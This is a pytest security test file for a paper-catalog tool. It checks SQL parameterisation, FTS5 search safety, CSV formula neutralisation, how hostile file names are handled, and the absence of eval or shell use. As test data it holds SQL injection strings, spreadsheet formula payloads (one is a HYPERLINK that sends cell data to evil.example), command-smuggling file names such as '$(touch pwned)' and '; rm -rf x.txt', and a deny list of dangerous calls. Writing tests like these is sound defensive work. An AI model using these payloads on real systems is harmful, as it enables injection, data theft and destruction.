"""Security review (#7), one test per promise.

* SQL is never built from values: every f-string that writes SQL interpolates only
  constants, placeholders or whitelisted clauses (listed below with the reason each is
  safe); values are bound. Checked on the source, and by running hostile input.
* Search text reaches FTS5 only as a bound parameter: it can fail, never run SQL.
* Exported CSV neutralises spreadsheet formulas.
* Paths given to `load` are read, never executed or written.
* Nothing from a page is evaluated: no eval/exec/pickle/shell in the package.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from catalog.cli import cli
from catalog.errors import CatalogError, QuerySyntaxError
from conftest import AS_OF, DATA, ROOT

PACKAGE = ROOT / "catalog"
SOURCES = sorted(PACKAGE.rglob("*.py"))


def _rel(path: Path) -> str:
    """A source's name inside the package: ``migrations.py``, ``store/read.py``."""
    return path.relative_to(PACKAGE).as_posix()


@pytest.fixture(scope="module")
def trees() -> dict[Path, ast.Module]:
    """Every source's syntax tree, parsed once for the module's scans (which only read
    them) and let go when the module ends."""
    return {path: ast.parse(path.read_text("utf-8")) for path in SOURCES}

# -- 1. SQL is parameterised ---------------------------------------------------------

# SQL keywords, or a piece that ends in a comparison ("title = '", "p.date >= "): the
# shape of a clause about to take a value
_SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|WHERE|CREATE|PRAGMA|ORDER BY|"
                        r"GROUP BY|MATCH|VALUES|DROP|ALTER|JOIN|UNION|LIMIT|IN|AND|OR|LIKE|"
                        r"GLOB|BETWEEN|FROM|SET|INTO)\b|\w\s*(>=|<=|<>|!=|=|<|>)\s*'?$")
_CONSTANT = re.compile(r"^_?[A-Z][A-Z0-9_]*$")

# The f-strings that interpolate something other than a constant, and why each is safe.
# Keyed by file and expression, so moving code around keeps them; a new one fails the
# test until it binds its values instead (or is argued for here).
ALLOWED = {
    ("migrations.py", "col"): "a loop over a fixed tuple of column names",
    ("migrations.py", "cols"): "joined from FTS_COLUMNS",
    ("migrations.py", "number"): "the migration's own index, an int",
    ("store/read.py", "cols"): "select_sql: PAPER_COLUMNS plus fixed rank/snippet columns",
    ("store/read.py", "where"): "WHERE clauses of placeholders: where_sql's, or "
                                "iter_profiles' 'pr.topic IN (?, ...)' and 'pr.id = ?'",
    ("store/read.py", "s"): "where_sql: a link_sets SELECT of placeholders",
    ("store/browse.py", "where"): "WHERE clauses of placeholders: where_sql's",
    ("store/browse.py", "t"): "a loop over a fixed tuple of table names",
    ("store/browse.py", "union"): "joined from fixed per-table SELECTs with placeholders",
    ("store/read.py", "sql"): "count_selection: a selection select_sql built (scanned here)",
    ("store/search.py", "coord"): "a CASE over IN-subqueries of placeholders and float "
                                  "literals the code computes",
    ("store/search.py", "source"): "one of two fixed FROM clauses",
    ("store/search.py", "where"): "'MATCH ?' and where_sql's clauses of placeholders",
    ("store/search.py", "inner_order"): "a SORTS clause picked by key",
    ("store/search.py", "sql"): "the inner query, built above from the same pieces",
    ("store/search.py", "outer"): "a SORTS clause picked by key",
    ("store/search.py", "order"): "a SORTS clause picked by key",
}


def _safe(expr: ast.expr) -> bool:
    """Constants, constant lookups and placeholder builders."""
    src = ast.unparse(expr)
    if isinstance(expr, (ast.Name, ast.Attribute)):
        return bool(_CONSTANT.match(src.rsplit(".", 1)[-1]))
    if isinstance(expr, ast.Subscript):  # SORTS[sort]: a fixed clause picked by key
        return _safe(expr.value)
    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Name):
        return expr.func.id == "_in"  # "(?, ?, ...)"
    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute) \
            and expr.func.attr == "join" and isinstance(expr.func.value, ast.Constant):
        (arg,) = expr.args
        if isinstance(arg, ast.BinOp) and isinstance(arg.op, ast.Mult):
            return ast.unparse(arg.left) == "'?'"  # '?' * len(...)
        if isinstance(arg, ast.GeneratorExp):  # c + ' = ?' for c in _PAPER_COLS
            return all(_safe(g.iter) for g in arg.generators)
        # ' AND '.join(clauses): each clause is checked by this scan where it is written
        return isinstance(arg, ast.Name) or _safe(arg)
    return False


def _is_sql(node: ast.expr) -> bool:
    return isinstance(node, ast.Constant) and isinstance(node.value, str) \
        and bool(_SQL_WORDS.search(node.value))


def _sql_fstrings(tree: ast.Module):
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            if any(_is_sql(v) for v in node.values):
                yield node
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add) \
                and (_is_sql(node.left) or _is_sql(node.right)):
            yield node  # "... title = '" + value
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) \
                and isinstance(node.left, ast.Constant) and isinstance(node.left.value, str) \
                and _SQL_WORDS.search(node.left.value):
            yield node
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr == "format" and isinstance(node.func.value, ast.Constant) \
                and _SQL_WORDS.search(str(node.func.value.value)):
            yield node


def test_sql_interpolates_only_constants_and_placeholders(trees):
    unsafe, used = [], set()
    for path in SOURCES:
        for node in _sql_fstrings(trees[path]):
            where = f"{_rel(path)}:{node.lineno}"
            if isinstance(node, ast.JoinedStr):
                parts = [v.value for v in node.values if isinstance(v, ast.FormattedValue)]
            elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
                parts = [x for x in (node.left, node.right)
                         if not isinstance(x, (ast.Constant, ast.JoinedStr, ast.BinOp))]
            else:
                unsafe.append(f"{where}: SQL built with % or .format(); bind ? parameters")
                continue
            for part in parts:
                if _safe(part):
                    continue
                key = (_rel(path), ast.unparse(part))
                if key in ALLOWED:
                    used.add(key)
                else:
                    unsafe.append(f"{where}: {{{key[1]}}} in SQL; bind it as a parameter")
    assert not unsafe, "\n".join(unsafe)
    assert used, "the scan found nothing: has the SQL moved?"


def _plain(sql: ast.expr) -> bool:
    """A literal, a name, an f-string (which the scan above checks), or a sum of those."""
    if isinstance(sql, (ast.Constant, ast.JoinedStr, ast.Name, ast.Attribute)):
        return True
    if isinstance(sql, ast.BinOp) and isinstance(sql.op, ast.Add):
        return _plain(sql.left) and _plain(sql.right)
    if isinstance(sql, ast.Call) and isinstance(sql.func, ast.Attribute):
        # CONSTANT_SQL.replace(" OR REPLACE", ""): a method of a statement, with literals
        return _plain(sql.func.value) and not sql.keywords \
            and all(isinstance(a, ast.Constant) for a in sql.args)
    return False


def test_every_execute_call_is_checked_by_the_scan(trees):
    """execute() gets nothing the scan cannot see: no str.format or % call, no join or
    other expression that could splice a value into the statement."""
    odd = []
    for path in SOURCES:
        for node in ast.walk(trees[path]):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                    and node.func.attr in ("execute", "executemany", "executescript") \
                    and node.args and not _plain(node.args[0]):
                odd.append(f"{_rel(path)}:{node.lineno}: {ast.unparse(node.args[0])[:60]}")
    assert not odd, "\n".join(odd)


MARK = "zq9xmark"
HOSTILE_TEXT = [
    f"{MARK}'); DROP TABLE papers; --",
    f'{MARK}" OR 1=1 --',
    f"{MARK}; DELETE FROM papers",
    f"{MARK}%' UNION SELECT sql FROM sqlite_master --",
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_values_reach_sql_only_as_parameters(seeds_db, text):
    from catalog.api import Catalog
    from catalog.query import Filters

    with Catalog(seeds_db) as cat:
        for filters in (Filters(), Filters(since="2024-01-01", topics=("CL",), code=True)):
            plan = cat.plan(f"deepseek {text} -{text} {text}*", filters, sort="date", limit=5)
            assert MARK not in plan.sql and "DROP" not in plan.sql
            assert any(MARK in str(p) for p in plan.params)


# -- 2. search text can never run SQL -------------------------------------------------

HOSTILE_QUERIES = HOSTILE_TEXT + [
    "'", '"', '""', "*", "-", "OR", "NOT", "AND", "(", ")", "NEAR(a b)", "title:x",
    "{title abstract}: x", "^deep", "a + b", "papers_fts MATCH 'x'", "rank:1",
    "author:\"'; DROP TABLE people; --\"", "topic:\"x' OR '1'='1\"", "profile:'",
    "year:2024..2023", "since:\"2024-13\"", "code:maybe", "\x00\x01", "deep\u0000seek",
    "a" * 5000, " OR ".join(["x"] * 100), "--", "/* */", "deep*" * 50,
]


def _contents(db: Path) -> str:
    """Every row of every table, so that any change shows."""
    con = sqlite3.connect(f"{db.resolve().as_uri()}?mode=ro", uri=True)
    try:
        h = hashlib.sha256()
        tables = [r[0] for r in con.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'papers_fts%' "
            "ORDER BY name")]
        for t in tables:
            h.update(t.encode())
            for row in con.execute(f"SELECT * FROM [{t}] ORDER BY 1"):
                h.update(repr(row).encode())
        h.update(repr(con.execute("SELECT sql FROM sqlite_master ORDER BY name").fetchall())
                 .encode())
        return h.hexdigest()
    finally:
        con.close()


@pytest.mark.slow
def test_hostile_search_text_never_changes_the_catalog(seeds_db, invoke):
    before = _contents(seeds_db)
    for q in HOSTILE_QUERIES:
        for args in (("search", "--format", "json", "--", q), ("search", "--sql", "--", q),
                     ("list", f"--author={q}", "--format", "json"),
                     ("list", f"--profile={q}", "--format", "json"), ("show", "--", q)):
            result = invoke("--db", seeds_db, *args)
            assert result.exit_code in (0, 1, 2), (args, result.stderr)
            assert "Traceback" not in result.stderr
            if result.exit_code:
                assert len(result.stderr.strip().splitlines()) == 1, (args, result.stderr)
    assert _contents(seeds_db) == before
    con = sqlite3.connect(seeds_db)
    try:
        assert con.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        con.execute("INSERT INTO papers_fts(papers_fts) VALUES ('integrity-check')")
    finally:
        con.close()
    assert len(json.loads(invoke("--db", seeds_db, "list", "-f", "json").stdout)) == 16


@pytest.mark.slow
@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=200))
def test_random_search_text_fails_only_as_a_query_error(seeds_db, text):
    from catalog.api import Catalog

    with Catalog(seeds_db) as cat:
        try:
            cat.search(text, limit=5)
        except QuerySyntaxError:
            pass
        except CatalogError as e:  # an author: or profile: term that matches no one
            assert "author" in str(e) or "profile" in str(e), e


# -- 3. CSV neutralises formulas --------------------------------------------------------

FORMULA_PAGE = """CLMar 3, 2024
=HYPERLINK("http://evil.example/?"&A1,"click me")
Ana Muller, Zoe Martin
+cmd|' /C calc'!A0 is what a spreadsheet would run; so would the rest of this abstract.

CVApr 4, 2024Code
@SUM(1+1)*cmd|' /C calc'!A0
Bob Smith, Carl Jones
-2+3+cmd|' /C calc'!A0 and other words to make this an abstract of a paper.
"""
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _check_cells(text: str) -> int:
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows[1:] for c in row]
    for cell in cells:
        assert not cell.startswith(_DANGEROUS) or re.fullmatch(r"[+-]?[\d.]+", cell), cell
    return len(rows) - 1


def test_csv_writer_neutralises_formulas():
    from catalog.export import write_csv
    from catalog.models import Paper

    evil = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")']
    papers = [Paper(id=f"p{i}", title=t, authors=(t, "Ana"), authors_truncated=False,
                    affiliations=(t,), topic="CL", date="2024-01-01", has_code=False,
                    score=-1.5, abstract=t, profiles=(t,)) for i, t in enumerate(evil)]
    out = io.StringIO()
    write_csv(papers, out)
    assert _check_cells(out.getvalue()) == len(evil)
    assert "'=1+1" in out.getvalue() and ",-1.5," in out.getvalue()


@pytest.mark.skipif("export" not in cli.commands, reason="`catalog export` not there yet")
def test_exported_csv_of_hostile_pages_neutralises_formulas(tmp_path, invoke):
    page = tmp_path / "formulas.txt"
    page.write_text(FORMULA_PAGE, encoding="utf-8")
    db = tmp_path / "f.db"
    loaded = invoke("--db", db, "load", page, "--as-of", AS_OF)
    assert loaded.exit_code == 0, loaded.stderr
    result = invoke("--db", db, "export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert _check_cells(result.stdout) == 2
    assert "'=HYPERLINK" in result.stdout and "'@SUM" in result.stdout
    out = tmp_path / "out.csv"
    assert invoke("--db", db, "export", "--format", "csv", "-o", out).exit_code == 0
    assert _check_cells(out.read_text("utf-8")) == 2


# -- 4. paths given to load are read, never executed or written ------------------------

HOSTILE_NAMES = ["$(touch pwned).txt", "; rm -rf x.txt", "`touch pwned2`.txt",
                 "a'b\"c.txt", "| touch pwned3.txt", "&& touch pwned4.txt", "x.txt"]


def _state(directory: Path) -> dict[str, tuple]:
    return {p.name: (p.stat().st_mtime_ns, stat.S_IMODE(p.stat().st_mode),
                     hashlib.sha256(p.read_bytes()).hexdigest())
            for p in directory.iterdir()}


@pytest.mark.slow
def test_load_reads_hostile_file_names_as_data(tmp_path):
    pages = tmp_path / "pages"
    pages.mkdir()
    seed = (DATA / "000_281d56d23437e343.txt").read_bytes()
    for i, name in enumerate(HOSTILE_NAMES):
        (pages / name).write_bytes(seed.replace(b"DeepSeek-R1:", f"Paper {i}:".encode()))
        (pages / name).chmod(0o444)  # read-only: a load that wanted to write would fail
    work = tmp_path / "cwd"
    work.mkdir()
    before = _state(pages)
    env = dict(os.environ, CATALOG_DB=str(tmp_path / "default.db"), HOME=str(tmp_path / "h"))
    db = tmp_path / "names.db"
    for args in ([str(pages)], [str(pages / n) for n in HOSTILE_NAMES]):
        r = subprocess.run([sys.executable, "-m", "catalog", "--db", str(db), "load", *args,
                            "--as-of", AS_OF], cwd=work, env=env, capture_output=True,
                           text=True, check=False, timeout=120, stdin=subprocess.DEVNULL)
        assert r.returncode == 0, r.stderr
    assert _state(pages) == before
    assert sorted(os.listdir(work)) == []
    assert not [p for p in tmp_path.rglob("pwned*")]
    con = sqlite3.connect(db)
    try:
        names = {r[0] for r in con.execute("SELECT name FROM profiles")}
        sources = {r[0] for r in con.execute("SELECT DISTINCT source FROM loads")}
    finally:
        con.close()
    assert names == {Path(n).stem for n in HOSTILE_NAMES}
    assert sources == set(HOSTILE_NAMES)


# -- 5. nothing from a page is evaluated --------------------------------------------

_FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
_FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "yaml", "subprocess",
                      "pty", "code", "codeop"}
_FORBIDDEN_ATTRS = {("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execvp"),
                    ("os", "spawnv"), ("os", "startfile")}


def _at(path: Path, node: ast.AST) -> str:
    return f"{_rel(path)}:{getattr(node, 'lineno', '?')}"


def test_no_eval_exec_pickle_or_shell_in_the_package(trees):
    found = []
    for path in SOURCES:
        for node in ast.walk(trees[path]):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) \
                    and node.func.id in _FORBIDDEN_CALLS:
                found.append(f"{_at(path, node)}: {node.func.id}()")
            elif isinstance(node, ast.Import):
                found += [f"{_at(path, node)}: import {a.name}" for a in node.names
                          if a.name.split(".")[0] in _FORBIDDEN_MODULES]
            elif isinstance(node, ast.ImportFrom) and node.module \
                    and node.module.split(".")[0] in _FORBIDDEN_MODULES:
                found.append(f"{_at(path, node)}: from {node.module} import ...")
            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                    and (node.value.id, node.attr) in _FORBIDDEN_ATTRS:
                found.append(f"{_at(path, node)}: {node.value.id}.{node.attr}")
            elif isinstance(node, ast.keyword) and node.arg == "shell":
                found.append(f"{_at(path, node)}: shell=")
    assert not found, "\n".join(found)


EVALUABLE = [
    "__import__('os').system('touch pwned')",
    "{{7*7}} and ${7*7} and #{7*7}",
    "$(touch pwned) `touch pwned`",
    "'; DROP TABLE papers; --",
    "{0.__class__.__mro__} %s %(title)s %n",
]


def test_page_text_is_stored_verbatim_never_evaluated(tmp_path, invoke, monkeypatch):
    blocks = []
    for i, bait in enumerate(EVALUABLE):
        blocks.append(f"CLMar {i + 1}, 2024\nPaper {i}: {bait}\nAna Muller, Zoe Martin\n"
                      f"An abstract that says {bait} and nothing else of note, truly.")
    page = tmp_path / "bait.txt"
    page.write_text("\n\n".join(blocks) + "\n", encoding="utf-8")
    db = tmp_path / "bait.db"
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    loaded = invoke("--db", db, "load", page, "--as-of", AS_OF)
    assert loaded.exit_code == 0, loaded.stderr
    papers = json.loads(invoke("--db", db, "list", "--format", "json").stdout)
    titles = {p["title"] for p in papers}
    assert titles == {f"Paper {i}: {bait}" for i, bait in enumerate(EVALUABLE)}
    for p in papers:
        assert p["abstract"] == f"An abstract that says {p['title'].split(': ', 1)[1]} " \
                                "and nothing else of note, truly."
    assert os.listdir(work) == [] and not list(tmp_path.rglob("pwned*"))
    found = json.loads(invoke("--db", db, "search", "DROP TABLE", "-f", "json").stdout)
    assert [p["title"] for p in found] == ["Paper 3: '; DROP TABLE papers; --"]
